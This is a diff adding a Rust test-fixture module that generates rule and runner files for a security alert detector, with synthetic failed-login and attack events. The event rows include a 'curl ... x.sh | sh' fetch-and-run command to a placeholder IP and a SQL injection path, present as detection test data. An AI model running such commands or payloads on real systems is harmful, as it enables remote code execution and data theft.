@@ -1,0 +1,109 @@
+//! Folders with a runner and rules, as a site has them.
+
+use std::fs;
+use std::path::Path;
+
+use anyhow::Result;
+
+/// The first and the last of [`thousand_rules`] to be searched; they alone fire.
+pub const FIRST_RULE: &str = "r0000";
+pub const LAST_RULE: &str = "r0999";
+
+/// A thousand rules every 10 s over a small table of events: each counts the failed logins of one account.
+/// Triage is off.
+pub fn thousand_rules(dir: &Path, receiver: &str) -> Result<()> {
+    runner(dir, receiver, "10s", EVENTS, "triage: false\n")?;
+    for number in 0..1000 {
+        let id = format!("r{number:04}");
+        let query = if id == FIRST_RULE || id == LAST_RULE {
+            "SELECT 'root' AS user_name, '203.0.113.9' AS source_ip, 12 AS failures".to_owned()
+        } else {
+            format!(
+                "SELECT user_name, source_ip, count(*) AS failures FROM events\n  \
+                 WHERE time_s >= {{{{ startime }}}} AND time_s < {{{{ endtime }}}} AND user_name = 'user{}'\n  \
+                 GROUP BY ALL HAVING failures > {{{{ data.threshold }}}}",
+                number % 40
+            )
+        };
+        rule(dir, &id, &query)?;
+    }
+    Ok(())
+}
+
+/// Rules that all fire every second, with one row.
+pub fn firing_rules(dir: &Path, receiver: &str, rules: usize) -> Result<()> {
+    // What is due once must not come again while the first is measured.
+    let interval = if rules > 100 { "10m" } else { "1s" };
+    runner(dir, receiver, interval, "SELECT 1", "triage: false\n")?;
+    for number in 0..rules {
+        let query = format!("SELECT 'user{number}' AS user_name, '203.0.113.9' AS source_ip, 12 AS failures");
+        rule(dir, &format!("r{number:04}"), &query)?;
+    }
+    Ok(())
+}
+
+/// Ten rules that fire once, each with rows of another kind; triage is on. Says how many.
+pub fn triaged_rules(dir: &Path, receiver: &str) -> Result<usize> {
+    let triage = "triage:\n  false_positive: Scanner 10.20.0.5 runs daily. Ignore alerts where source_ip is 10.20.0.5.\n";
+    runner(dir, receiver, "10m", "SELECT 1", triage)?;
+    for (number, (columns, rows)) in ROWS.iter().enumerate() {
+        rule(dir, &format!("r{number:04}"), &format!("SELECT {columns} FROM range({rows}) AS numbers(i)"))?;
+    }
+    Ok(ROWS.len())
+}
+
+fn runner(dir: &Path, receiver: &str, interval: &str, init: &str, rest: &str) -> Result<()> {
+    fs::create_dir_all(dir.join("rules"))?;
+    let text = format!(
+        "datasource:\n  type: duckdb\n  init: |\n    {init}\n\
+         webhooks:\n  receiver: {{type: generic, url: 'http://{receiver}/'}}\n\
+         detectors:\n  logins:\n    name: Logins\n    for: {interval}\n    rules: ['rules/*.yml']\n    \
+         webhooks: [receiver]\n{rest}"
+    );
+    Ok(fs::write(dir.join("runner.yml"), text)?)
+}
+
+fn rule(dir: &Path, id: &str, query: &str) -> Result<()> {
+    let text = format!(
+        "id: {id}\nname: Many failed logins ({id})\nlevel: 75\ngroup: logins\ntags: [attack.t1110]\n\
+         description: An account failed to log in many times within {{{{ detector.for_time }}}}\n\
+         data: {{threshold: 10}}\nrule: |\n  {query}\n"
+    );
+    Ok(fs::write(dir.join("rules").join(format!("{id}.yml")), text)?)
+}
+
+/// 10,000 events over an hour and a bit, from a minute before the start.
+const EVENTS: &str = "CREATE TABLE events AS SELECT epoch(now())::BIGINT - 60 + i % 3700 AS time_s, 'user' || (i % 40) AS user_name, \
+     '10.0.' || (i % 7) || '.' || (i % 200) AS source_ip FROM range(10000) AS numbers(i)";
+
+/// Columns over a counter `i`, and how many rows.
+const ROWS: [(&str, usize); 10] = [
+    (
+        "'203.0.113.9' AS source_ip, 'user' || (i % 9) AS user, 'web01' AS host, 'Failed password for user' || (i % 9) || ' from 203.0.113.9 port ' || (4000 + i) || ' ssh2' AS message",
+        60,
+    ),
+    (
+        "'198.51.100.7' AS source_ip, 'root' AS user, 'db02' AS host, 'Accepted password for root from 198.51.100.7' AS message",
+        1,
+    ),
+    ("'10.20.0.5' AS source_ip, '/admin/' || i AS path, 404 AS status, 'scanner/2.1' AS user_agent", 300),
+    (
+        "'192.0.2.44' AS source_ip, '/item?id=1 UNION SELECT password FROM users' AS path, 200 AS status, 'sqlmap/1.7' AS user_agent",
+        4,
+    ),
+    ("'alice' AS user, 'ws14' AS host, '/usr/bin/passwd root' AS command, '/home/alice' AS directory", 1),
+    ("'bob' AS user, 'build03' AS host, 'curl http://203.0.113.80/x.sh | sh' AS command, 4711 + i AS pid", 2),
+    (
+        "'10.1.4.' || i AS source_ip, '203.0.113.200' AS destination_ip, 4444 AS destination_port, 15000 * i AS bytes",
+        25,
+    ),
+    (
+        "'svc-backup' AS user, 'dc01' AS host, 4769 AS event_id, 'http/app' || i AS service, '0x17' AS encryption",
+        40,
+    ),
+    (
+        "'mail01' AS host, 'invoice' || i || '.xlsm' AS file, 'd41d8cd98f00b204e9800998ecf8427e' AS md5, 'carol' AS user",
+        3,
+    ),
+    ("'fw01' AS host, '198.51.100.' || i AS source_ip, 3389 AS destination_port, 'deny' AS action", 150),
+];
